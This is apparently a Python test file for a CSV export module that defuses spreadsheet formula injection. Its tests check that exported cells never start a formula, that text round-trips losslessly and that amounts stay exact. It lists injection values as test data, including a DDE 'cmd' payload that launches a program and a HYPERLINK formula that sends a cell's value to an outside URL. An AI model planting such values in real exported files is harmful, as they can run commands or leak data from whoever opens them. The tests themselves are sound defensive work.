"""No cell that people wrote is ever a formula, nothing is lost by that, and figures stay figures."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage.exports.cells import BOM, csv_of, defused, plain

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
BEFORE = ("", " ", "  ", "\u00a0", "'", "''", " '", "\u200b", "\ufeff", "\u2003")
REST = (
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://x?"&A1,"go")',
    "1+1",
    "",
    "SUM(1)\n=2",
    "2+5|x",
    "IMPORTXML(1)",
    '"',
    ",",
)
BLANKS = " \u00a0\u200b\ufeff\u2003"


def read(content):
    return list(csv.reader(io.StringIO(b"".join(content).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("start", STARTS)
def test_no_text_begins_a_formula_and_all_of_it_comes_back(start):
    """1,080 in all."""
    payloads = [f"{before}{start}{rest}" for before in BEFORE for rest in REST]
    cells = [cell for [cell] in read(csv_of(["words"], [[one] for one in payloads]))[1:]]
    assert not [cell for cell in cells if cell.lstrip(BLANKS).startswith(STARTS)]
    assert [plain(cell) for cell in cells] == payloads


def test_without_the_apostrophe_each_of_them_would_be_one():
    """The twin of the test above: the check notices."""
    assert all(f"{before}{start}1".lstrip(BLANKS + "'").startswith(STARTS) for before in BEFORE for start in STARTS)


@given(st.text())
def test_whatever_was_written_comes_back(words):
    assert plain(defused(words)) == words
    assert not defused(words).lstrip().startswith(STARTS)


@pytest.mark.parametrize("words", ["Dana Lee", "", "O'Brien", "'quoted'", "12 Oak St", "a=b", "José", "$4,500"])
def test_what_is_no_formula_is_left_as_it_is(words):
    assert defused(words) == words


@given(st.lists(st.integers(-(10**15), 10**15), min_size=1), st.sampled_from([0, 2, 3]))
def test_amounts_come_back_exactly_also_below_zero(minors, digits):
    amounts = [Decimal(minor).scaleb(-digits) for minor in minors]
    assert [Decimal(cell) for [cell] in read(csv_of(["amount"], [[one] for one in amounts]))[1:]] == amounts
    assert b"E" not in b"".join(csv_of([], [[one] for one in amounts]))


def test_it_is_utf_8_with_its_mark_and_lines_as_the_standard_says():
    content = b"".join(csv_of(["a", "b"], [['Señor, "Ñ"', date(2026, 3, 1)], [3, Decimal("-0.50")]]))
    assert content == (BOM + 'a,b\r\n"Señor, ""Ñ""",2026-03-01\r\n3,-0.50\r\n').encode()
